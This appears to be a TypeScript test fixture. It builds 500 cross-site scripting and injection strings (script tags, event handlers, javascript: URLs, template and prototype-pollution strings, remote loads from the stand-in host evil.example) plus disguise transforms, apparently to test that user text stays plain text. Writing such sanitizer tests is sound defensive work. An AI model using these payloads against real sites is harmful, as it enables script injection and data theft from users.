/** Texts that try to become markup, script, style or a request. None of them may be more than text. */

/** What each of them would do if it could: the page then knows. */
const script = "window.tipwireBroken=1";
const foreign = "https://evil.example";

const seeds: readonly string[] = [
  `<script>${script}</script>`,
  `<script src=${foreign}/x.js></script>`,
  `<img src=x onerror=${script}>`,
  `<img src=${foreign}/pixel.gif>`,
  `<svg onload=${script}>`,
  `<svg><script>${script}</script></svg>`,
  `<svg><animate onbegin=${script} attributeName=x dur=1s>`,
  `<svg><use href=${foreign}/x.svg#a></use></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${script}>`,
  `<body onload=${script}>`,
  `<iframe src=javascript:${script}></iframe>`,
  `<iframe srcdoc="<script>parent.${script}</script>"></iframe>`,
  `<object data=${foreign}/x.swf></object>`,
  `<embed src=javascript:${script}>`,
  `<video><source onerror=${script}></video>`,
  `<audio src=x onerror=${script}>`,
  `<details open ontoggle=${script}>`,
  `<input autofocus onfocus=${script}>`,
  `<marquee onstart=${script}>`,
  `<a href=javascript:${script}>click</a>`,
  `<form action=${foreign}><button>go</button></form>`,
  `<link rel=stylesheet href=${foreign}/x.css>`,
  `<style>@import "${foreign}/x.css"; *{display:none}</style>`,
  `<base href=${foreign}/>`,
  `<meta http-equiv=refresh content="0;url=${foreign}">`,
  `<template><img src=x onerror=${script}></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${script}>">`,
  `"><img src=x onerror=${script}>`,
  `'-${script}-'`,
  `\`-${script}-\``,
  `</p></article><script>${script}</script>`,
  `]]><script>${script}</script>`,
  `--><script>${script}</script><!--`,
  `\${${script}}`,
  `{{${script}}}`,
  `{{amount}} {{name}} {amount} {name}`,
  `{{constructor.constructor('${script}')()}}`,
  `<%= ${script} %>`,
  `javascript:${script}`,
  `data:text/html,<script>${script}</script>`,
  `&lt;script&gt;${script}&lt;/script&gt;`,
  `&#60;img src=x onerror=${script}&#62;`,
  `\\u003cscript\\u003e${script}\\u003c/script\\u003e`,
  `%3Cscript%3E${script}%3C/script%3E`,
  `url(${foreign}/x.png)`,
  `;background:url(${foreign}/x.png)`,
  `__proto__`,
  `constructor`,
  `<x contenteditable onblur=${script}>lose focus</x>`,
  `<select><style><img src=x onerror=${script}></style></select>`,
];

const disguises: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.toUpperCase().replaceAll(script.toUpperCase(), script),
  (text) => text.replace("<", "<\n"),
  (text) => text.replaceAll(" ", "/"),
  (text) => text.replace(/<(\w)/, "<\u200B$1"),
  (text) => `\u202E${text}\u202C`,
  (text) => text.replaceAll("<", "＜").replaceAll(">", "＞"),
  (text) => `Thanks! ${text} 🎉`,
  (text) => text.repeat(2),
  (text) => text.replaceAll("<", "<<"),
];

/** Five hundred. The number tells those apart whose disguise changes nothing. */
export const hostileTexts: readonly string[] = seeds.flatMap((seed) =>
  disguises.map((disguise, i) => `${disguise(seed)} ${i}`),
);
